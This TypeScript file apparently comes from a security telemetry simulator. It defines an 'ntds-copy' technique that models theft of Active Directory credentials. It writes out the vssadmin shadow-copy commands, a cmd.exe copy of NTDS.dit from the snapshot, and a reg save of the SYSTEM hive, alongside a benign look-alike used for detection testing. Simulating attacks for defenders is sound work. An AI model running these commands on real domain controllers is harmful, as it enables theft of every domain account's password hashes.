import { recordServiceState } from "../../windows/services.ts";
import { during, toolChangesFile } from "../../windows/tool-acts.ts";
import { SYSTEM32, windowsTool } from "../../windows/tool.ts";
import { toolTechnique } from "../tool-technique.ts";

const OUTPUT = "C:\\Windows\\Temp\\__output";
const SHADOW = "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3";

/** The directory's database is copied out of a snapshot of the controller's disk; the habit of writing to `__output` is a known tool's. */
export const ntdsCopy = toolTechnique({
  name: "ntds-copy",
  lookAlike: { by: "system/chores/directory-snapshot", table: "SecurityEvent", column: "CommandLine", shows: "vssadmin create shadow" },
  summary: "Copies NTDS.dit out of a volume snapshot on a domain controller.",
  attack: ["T1003.003"],
  parameters: [],
  yields: ["path"],
  decide: () => ({ path: "C:\\Windows\\Temp\\ntds.dit" }),
  source: "Volexity, Operation Exchange Marauder; SigmaHQ",
  tools: (world, { values, draws }) => [
    windowsTool("vssadmin.exe", `vssadmin list shadows /for=C: > ${OUTPUT} 2>&1`, 800, {
      acts: (tool) => toolChangesFile(tool, { path: OUTPUT, size: 410 }),
    }),
    windowsTool("vssadmin.exe", "vssadmin create shadow /for=C:", 4_200, {
      acts: (tool) => recordServiceState(world, tool.host, during(tool, 0.2), tool.cause, "Volume Shadow Copy", "running"),
    }),
    {
      path: `${SYSTEM32}\\cmd.exe`,
      line: `cmd.exe /c copy ${SHADOW}\\Windows\\NTDS\\ntds.dit ${values["path"] ?? ""}`,
      runsMs: 3_100,
      acts: (tool) => toolChangesFile(tool, { path: values["path"] ?? "", size: draws.between(40, 220) * 1_048_576 }),
    },
    windowsTool("reg.exe", "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.hiv /y", 1_200, {
      acts: (tool) => toolChangesFile(tool, { path: "C:\\Windows\\Temp\\sys.hiv", size: 15_728_640 }),
    }),
  ],
});
